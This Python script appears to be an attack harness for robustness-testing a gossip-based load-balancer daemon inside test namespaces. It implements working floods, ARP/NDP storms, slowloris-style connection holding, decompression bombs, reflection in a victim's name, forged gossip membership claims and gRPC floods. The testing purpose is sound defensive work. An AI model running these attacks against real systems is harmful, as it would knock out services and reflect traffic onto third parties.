#!/usr/bin/env python3
"""An attacker on the segment. Each attack lasts SECONDS.

    attacks.py NAME SECONDS [ARGUMENT...]

The last line says what was done: packets, connections, calls. Bounded, and to
the given addresses only; for hostile.sh, in its namespaces.
"""

import os
import random
import select
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "soak"))
# pylint: disable=wrong-import-position
import gossip_bytes as gossip
import status_attacks
import watch

RATE = 20000  # Packets a second.
CONNECTIONS = 1000
FILLING = 120  # Connections; as many as are served at a time.
FAKES = 10000
SO_SNDBUFFORCE = 32
SEED = 7


def ipv4(address):
    return socket.inet_pton(socket.AF_INET, address)


def at_rate(seconds, rate, send):
    """Calls send(number) so often; returns how often it did."""
    start = time.monotonic()
    sent = 0
    while (passed := time.monotonic() - start) < seconds:
        for _ in range(min(int(passed * rate) - sent, 200)):
            send(sent)
            sent += 1
        if sent >= passed * rate:
            time.sleep(0.0005)
    return f"{sent / seconds:.0f} packets/s"


def send_packets(seconds, rate, packets, targets):
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 4 << 20)

    def send(number):
        try:
            made.sendto(packets[number % len(packets)],
                        (targets[number % len(targets)], gossip.PORT))
        except OSError:
            pass

    return at_rate(seconds, rate, send)


def send_frames(seconds, interface, frames):
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    made.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 4 << 20)
    made.bind((interface, 0))
    return at_rate(seconds, RATE,
                   lambda number: made.send(frames[number % len(frames)]))


def malformed(seconds, *targets):
    rng = random.Random(SEED)
    packets = [gossip.malformed(rng) for _ in range(5000)]
    return send_packets(seconds, RATE, packets, targets)


def replayed(seconds, recording, *targets):
    """What record() has heard."""
    with open(recording, "rb") as file:
        data = file.read()
    packets = []
    while data:
        size, = struct.unpack_from("!H", data)
        packets.append(data[2:2 + size])
        data = data[2 + size:]
    done = send_packets(seconds, RATE, packets, targets)
    return f"{done} out of {len(packets)}"


def record(seconds, interface, recording, which=""):
    """UDP payloads of gossip on an interface, with their sizes; all, or what
    comes ("to_us")."""
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    made.bind((interface, 3))
    own = made.getsockname()[4]
    end = time.monotonic() + seconds
    count = 0
    with open(recording, "wb") as file:
        while (left := end - time.monotonic()) > 0:
            if not select.select([made], [], [], left)[0]:
                break
            frame = made.recv(2048)
            udp = frame[12:14] == b"\x08\x00" and frame[23] == 17
            if which and frame[:6] != own:
                continue
            if udp and struct.unpack_from("!H", frame, 36)[0] == gossip.PORT:
                file.write(struct.pack("!H", len(frame) - 42) + frame[42:])
                count += 1
    return f"{count} packets recorded"


def random_mac(rng):
    return b"\x02" + rng.randbytes(5)


def arp_storm(seconds, interface, vip):
    """Questions for the address, and for others, from anybody."""
    rng = random.Random(SEED)
    frames = [watch.request(random_mac(rng), rng.randbytes(4),
                            ipv4(vip) if rng.randrange(2) else rng.randbytes(4))
              for _ in range(5000)]
    return send_frames(seconds, interface, frames)


def arp_claims(seconds, interface, vip):
    """Hosts that all say that they have the address."""
    rng = random.Random(SEED)
    frames = [watch.request(random_mac(rng), ipv4(vip), ipv4(vip))
              for _ in range(5000)]
    return send_frames(seconds, interface, frames)


def ndp_storm(seconds, interface, vip6):
    rng = random.Random(SEED)
    wanted = socket.inet_pton(socket.AF_INET6, vip6)
    frames = []
    for number in range(5000):
        own = b"\xfe\x80" + bytes(6) + rng.randbytes(8)
        frame = bytearray(watch.solicitation(random_mac(rng), own, wanted))
        if number % 4 == 0:  # Checksum, options and lengths at random.
            frame[rng.randrange(54, len(frame))] ^= 1 << rng.randrange(8)
        frames.append(bytes(frame))
    return send_frames(seconds, interface, frames)


def connections(seconds, target, piece):
    """Held open; each sends a piece a second. Opened anew when closed."""
    held, opened, failed = [], 0, 0
    start = time.monotonic()
    turn = 0
    while time.monotonic() - start < seconds:
        while len(held) < CONNECTIONS:
            made = socket.socket(target[0])
            made.settimeout(0.2)
            try:
                made.connect(target[1])
                held.append(made)
                opened += 1
            except OSError:
                failed += 1
                made.close()
                break
        for made in held[turn % 10::10]:
            try:
                made.setblocking(False)
                if piece:
                    made.send(piece)
                if made.recv(4096) == b"":
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                held.remove(made)
                made.close()
        turn += 1
        time.sleep(0.1)
    return (f"{len(held)} connections held at the end, {opened} opened, "
            f"{failed} refused")


def tcp_silent(seconds, target):
    return connections(seconds, (socket.AF_INET, (target, gossip.PORT)), b"")


def tcp_dripping(seconds, target):
    # The first byte promises an exchange that never comes.
    return connections(seconds, (socket.AF_INET, (target, gossip.PORT)),
                       bytes((gossip.PUSH_PULL,)))


def tcp_filling(seconds, target):
    """Streams, plain and encrypted, that promise 19 MiB and are never whole."""
    size = 19 << 20
    heads = (bytes((gossip.USER,)) + gossip.body(UserMsgLen=size),
             struct.pack("!BI", gossip.ENCRYPT, size))
    held, opened, filled = {}, 0, 0
    piece = bytes(1 << 16)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(held) < FILLING:
            made = socket.create_connection((target, gossip.PORT), 0.2)
            made.setblocking(False)
            made.send(heads[opened % 2])
            held[made] = size - 1
            opened += 1
        unfilled = [made for made, left in held.items() if left > 0]
        _, ready, _ = select.select([], unfilled, [], 0.05)
        for made in ready:
            try:
                sent = made.send(piece[:held[made]])
                held[made] -= sent
                filled += sent
            except OSError:
                del held[made]
                made.close()
    return f"{opened} opened, {filled / seconds / 1e6:.0f} MB/s"


def compound_pings(seconds, *targets):
    return send_packets(seconds, 200, [gossip.nested_pings()], targets)


def ping_pulses(seconds, *targets):
    """40 KB each 5 s; all at once, that a turn of the loop may find them."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packet = gossip.nested_pings()
    end = time.monotonic() + seconds
    count = 0
    while time.monotonic() < end:
        for number in range(40000 // len(packet)):
            made.sendto(packet, (targets[number % len(targets)], gossip.PORT))
        count += 1
        time.sleep(max(0, min(5, end - time.monotonic())))
    return f"{count} pulses of 40 KB"


def reflection(seconds, victim, *targets):
    """Pings in the name of a third host."""
    packet = gossip.pings_for(ipv4(victim))
    done = send_packets(seconds, 200, [packet], targets)
    return f"{done} of {len(packet)} bytes"


def heard(seconds, interface):
    """Bytes of UDP payload that gossip ports send to this host."""
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    made.bind((interface, 3))
    own = made.getsockname()[4]
    end = time.monotonic() + seconds
    count = 0
    while (left := end - time.monotonic()) > 0:
        if not select.select([made], [], [], left)[0]:
            break
        frame = made.recv(2048)
        if (frame[:6] == own and frame[12:14] == b"\x08\x00"
                and frame[23] == 17
                and struct.unpack_from("!H", frame, 34)[0] == gossip.PORT):
            count += len(frame) - 42
    return count


def inflating(seconds, target):
    """40 streams of 16 KB that inflate to 20 MB; their last bytes together."""
    stream = gossip.compressed(gossip.lzw_zeros(20 << 20))
    end = time.monotonic() + seconds
    count = refused = 0
    while time.monotonic() < end:
        held = []
        for _ in range(40):
            try:
                made = socket.create_connection((target, gossip.PORT), 0.2)
                made.sendall(stream[:-8])
                held.append(made)
            except OSError:
                refused += 1
        for made in held:
            try:
                made.sendall(stream[-8:])
                count += 1
            except OSError:
                refused += 1
        time.sleep(0.2)
        for made in held:
            made.close()
    return f"{count} streams of {len(stream)} bytes, {refused} refused"


def grpc_garbage(seconds, where):
    """HTTP/2's preface and nonsense, to a unix socket or ADDRESS:PORT."""
    rng = random.Random(SEED)
    family, address = socket.AF_UNIX, where
    if ":" in where:
        host, port = where.rsplit(":", 1)
        family, address = socket.AF_INET, (host, int(port))
    start = time.monotonic()
    count = failed = 0
    while time.monotonic() - start < seconds:
        made = socket.socket(family)
        made.settimeout(0.2)
        try:
            made.connect(address)
            preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
            made.sendall((preface if count % 2 else b"")
                         + rng.randbytes(rng.randrange(4000)))
            count += 1
        except OSError:
            failed += 1
        made.close()
    return f"{count / seconds:.0f} connections/s, {failed} refused"


def grpc_calls(seconds, where):
    """Good calls as fast as they go, from 32 callers, and streams held."""
    # pylint: disable=import-outside-toplevel
    import concurrent.futures
    import grpc
    channels = [grpc.insecure_channel("unix:" + where, options=[
        ("grpc.use_local_subchannel_pool", 1)]) for _ in range(8)]
    streams = [channel.unary_stream("/lb.status.v1.Status/Watch")(b"")
               for channel in channels for _ in range(25)]
    end = time.monotonic() + seconds

    def call(number):
        count = 0
        method = ("ListServices", "GetNode", "ListMembers", "Explain")[number % 4]
        ask = channels[number % 8].unary_unary(f"/lb.status.v1.Status/{method}")
        while time.monotonic() < end:
            try:
                ask(b"" if number % 3 else b"\xff\x01\x02", timeout=5)
            except grpc.RpcError:
                pass
            count += 1
        return count

    with concurrent.futures.ThreadPoolExecutor(32) as pool:
        count = sum(pool.map(call, range(32)))
    for stream in streams:
        stream.cancel()
    return f"{count / seconds:.0f} calls/s, {len(streams)} streams"


# A liar knows the key, or there is none. From here on it is a member's word.


def accusations(seconds, *targets):
    """Each node is dead, says the liar to all, 1,000 times a second."""
    packets = []
    for incarnation in range(1, 400):
        for number in (1, 2, 3):
            node = f"n{number}"
            for kind in (gossip.DEAD, gossip.SUSPECT):
                packets.append(gossip.accuse(kind, node, incarnation, "liar"))
    return send_packets(seconds, 1000, packets, targets)


def far_incarnations(seconds, *targets):
    packets = [gossip.accuse(gossip.DEAD, f"n{n}", 0xFFFFFFFF - n, "liar")
               for n in (1, 2, 3)]
    packets += [gossip.alive(f"n{n}", ipv4(targets[0]), 0xFFFFFFF0)
                for n in (1, 2, 3)]
    return send_packets(seconds, 1000, packets, targets)


def other_names(seconds, *targets):
    """Members' names at the liar's address."""
    packets = [gossip.alive(f"n{n}", ipv4("172.18.8.30"), i)
               for n in (1, 2, 3) for i in range(1, 300)]
    return send_packets(seconds, 1000, packets, targets)


def huge_metadata(seconds, *targets):
    packets = [gossip.alive(f"big{n}", ipv4(f"172.18.8.{50 + n % 100}"), 1,
                            bytes(size))
               for n, size in enumerate((511, 512, 513, 1024, 8000, 60000))]
    # Compressed nothing: 64 KiB that want to be much more.
    packets.append(bytes((gossip.COMPRESS,))
                   + gossip.body(Algo=0, Buf=bytes(60000)))
    packets.append(bytes((gossip.USER,)) + b"LBLM\x01" + bytes(50000))
    return send_packets(seconds, 1000, packets, targets)


def fake_members(seconds, *targets):
    """Pass for MetalLB speakers: they say nothing of themselves."""
    return invent(seconds, targets, "fake", lambda number: b"")


def fake_lbds(seconds, *targets):
    """Each says that it can announce on eth0."""
    return invent(seconds, targets, "lbd",
                  lambda number: gossip.lbd_metadata(
                      "eth0", b"\x02\x66" + struct.pack("!I", number)))


def invent(seconds, targets, name, metadata):
    """FAKES members in packets, then in one exchange with each target."""
    def fake(number):
        return (f"{name}{number}", bytes((10, 66, number >> 8, number & 255)),
                1, metadata(number))

    packets = []
    for first in range(0, FAKES, 10):
        packets.append(gossip.compound(
            [gossip.alive(*fake(n)) for n in range(first, first + 10)]))
    done = send_packets(seconds, len(packets) / seconds * 2, packets, targets)
    exchange = gossip.push_pull(
        [gossip.state(*fake(n)) for n in range(FAKES)])
    for target in targets:
        with socket.create_connection((target, gossip.PORT), 5) as made:
            made.sendall(exchange)
            made.settimeout(2)
            try:
                while made.recv(65536):
                    pass
            except OSError:
                pass
    return f"{done} of {FAKES} members"


def huge_exchanges(seconds, target):
    """Exchanges that promise a million nodes, or gigabytes of state."""
    start = time.monotonic()
    count = failed = 0
    while time.monotonic() - start < seconds:
        try:
            with socket.create_connection((target, gossip.PORT), 1) as made:
                head = bytes((gossip.PUSH_PULL,)) + gossip.body(
                    Join=True, Nodes=1000000 if count % 2 else 0,
                    UserStateLen=0x7FFFFFFF if count % 3 else 5 << 20)
                made.sendall(head + bytes(5 << 20))
                count += 1
        except OSError:
            failed += 1
    return f"{count / seconds:.0f} exchanges/s, {failed} cut short"


ATTACKS = {function.__name__: function for function in (
    record, malformed, replayed, arp_storm, arp_claims, ndp_storm, tcp_silent,
    tcp_dripping, tcp_filling, grpc_garbage, grpc_calls, accusations,
    far_incarnations, other_names, huge_metadata, fake_members, fake_lbds,
    huge_exchanges, compound_pings, ping_pulses, reflection, heard, inflating,
    status_attacks.pipelined_lists, status_attacks.largest_what_if,
    status_attacks.huge_header, status_attacks.many_streams,
    status_attacks.idle_metrics)}

if __name__ == "__main__":
    print(ATTACKS[sys.argv[1]](float(sys.argv[2]), *sys.argv[3:]), flush=True)
    os._exit(0)  # What is held goes with the process.
